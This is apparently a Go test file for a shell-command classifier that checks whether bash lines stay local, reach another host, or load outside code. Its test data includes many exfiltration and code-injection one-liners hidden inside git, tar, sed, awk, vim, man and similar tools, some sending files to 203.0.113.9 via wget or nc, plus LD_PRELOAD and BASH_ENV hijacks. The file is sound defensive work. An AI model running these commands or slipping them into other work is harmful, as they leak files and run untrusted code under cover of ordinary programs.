package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// A local program given a command to run, a variable naming a program or
// library, or a database host is not local; the same programs used
// plainly stay local.
func TestHiddenRunners(t *testing.T) {
	for _, line := range []string{
		`git -c core.pager='wget --post-file=notes.txt http://203.0.113.9/' log`,
		`git -C repo -c alias.sync='!python3 upload.py' sync`,
		`git ls-files --exec='nc 203.0.113.9 80'`,
		`tar -cf /dev/null notes --checkpoint=1 --checkpoint-action=exec='scp notes me@host:'`,
		`tar -xzf a.tgz --to-command='ssh host tee x'`,
		`zip out.zip a -T -TT 'nc host 9 <'`,
		`sed '1e wget -qO- http://host/x' notes.txt`,
		`awk 'BEGIN { cmd = "nc host 80"; print "x" | cmd }'`,
		`gawk 'BEGIN { print "x" |& "/inet/tcp/0/host/80" }'`,
		`sqlite3 x.db '.system ssh host'`,
		`vim -es '+!nc host 80 < notes.txt' '+q'`,
		`tmux new-session -d 'socat - TCP:host:80'`,
		`man --pager='sh -c "nc host 80"' ls`,
		`rg --pre 'python3 send.py' TODO`,
		`sort --compress-program='bash -c x' big.txt`,
		`mysql --host=db.example.net -e 'select 1'`,
		`redis-cli -h cache.example.net get k`,
		`psql 'postgres://me@db.example.net:5432/app' -c 'select 1'`,
		`LD_PRELOAD=./hook.so cat notes.txt`,
		`BASH_ENV=./x.sh bash -c 'true'`,
		`GIT_SSH_COMMAND='nc host 22' git status`,
		`PAGER='curl -T - http://host' git log`,
		`hash -p /usr/bin/wget cat; cat http://host/x`,
		`ssh-keygen -D ./pkcs11.so`,
	} {
		r := BashCommand(line)
		assert.NotEqual(t, Internal, r.Class, "%s: %s", line, r.Reason)
	}
	for _, line := range []string{
		`git -c user.name=me commit -m 'switch from wget to curl'`,
		`git -c core.editor=vim commit`,
		`EDITOR=vim git commit`,
		`GIT_PAGER=less git log`,
		`tar -I zstd -cf out.tar.zst src`,
		`man curl`,
		`rg -n python src`,
		`sort --compress-program=gzip big.txt`,
		`sed -i 's/wget/curl/g' build.sh`,
		`awk '{ print $1 }' access.log`,
		`awk '$1 == "GET" || $1 == "HEAD" { n++ } END { print n }' access.log`,
		`awk '{ print $2 | "sort -n" }' sizes.txt`,
		`psql -h localhost -U me app`,
		`mysql -u root -e 'show tables'`,
		`redis-cli -h 127.0.0.1 ping`,
		`psql postgres:///app`,
		`sqlite3 app.db '.tables'`,
		`less README.md`,
		`tmux ls`,
	} {
		r := BashCommand(line)
		assert.Equal(t, Internal, r.Class, "%s: %s", line, r.Reason)
	}
}

// Programs that reach another host or load code from a place the line
// chooses, without a command given to them: tar's remote archives, git's
// hooks and included configuration, database servers named in a
// connection string or a variable, editors' scripts, libraries loaded by
// ssh tools, services given variables.
func TestLoadersAndRemoteTargets(t *testing.T) {
	for line, want := range map[string]Class{
		`tar -czf me@backup.example.net:/srv/a.tgz src`:         External,
		`tar --file=host:/x.tar -c notes`:                       External,
		`tar cf host:x.tar notes`:                               External,
		`code tunnel`:                                           External,
		`git -c core.hooksPath=.hooks commit -m x`:              Hybrid,
		`git -c include.path=../other.cfg status`:               Hybrid,
		`git --config-env=core.editor=ED commit`:                Hybrid,
		`GIT_CONFIG_GLOBAL=/tmp/g.cfg git status`:               Hybrid,
		`psql "host=db.example.net user=me" -c 'select 1'`:      Hybrid,
		`PGHOST=db.example.net psql -c 'select 1'`:              Hybrid,
		`MYSQL_HOST=db.example.net mysql -e 'select 1'`:         Hybrid,
		`ssh-add -s ./pkcs11.so`:                                Hybrid,
		`ssh-keygen -t ed25519-sk -w ./sk.so`:                   Hybrid,
		`vim -S session.vim`:                                    Hybrid,
		`nvim --headless -c 'lua vim.fn.jobstart({"x"})' -c q`:  Hybrid,
		`emacs --batch -l build.el`:                             Hybrid,
		`less '+|xfoo' notes`:                                   Hybrid,
		`systemctl --user set-environment LD_PRELOAD=/tmp/x.so`: Hybrid,
		`export LD_AUDIT=./a.so; cat notes`:                     Hybrid,
	} {
		r := BashCommand(line)
		assert.Equal(t, want, r.Class, "%s: %s", line, r.Reason)
	}
	for _, line := range []string{
		`tar -czf backup.tgz src`,
		`tar -xf ./a:b.tar`,
		`tar --force-local -cf c:x.tar src`,
		`git -c core.autocrlf=false commit -m x`,
		`git commit -m 'set core.hooksPath=.hooks'`,
		`psql "dbname=app user=me" -c 'select 1'`,
		`PGHOST=localhost psql -c 'select 1'`,
		`vim -u NONE notes`,
		`vim +42 notes`,
		`emacs notes.txt`,
		`less +G log`,
		`export PATH=$PATH:$HOME/go/bin; ls`,
		`systemctl --user status flowd`,
		`code .`,
	} {
		r := BashCommand(line)
		assert.Equal(t, Internal, r.Class, "%s: %s", line, r.Reason)
	}
}
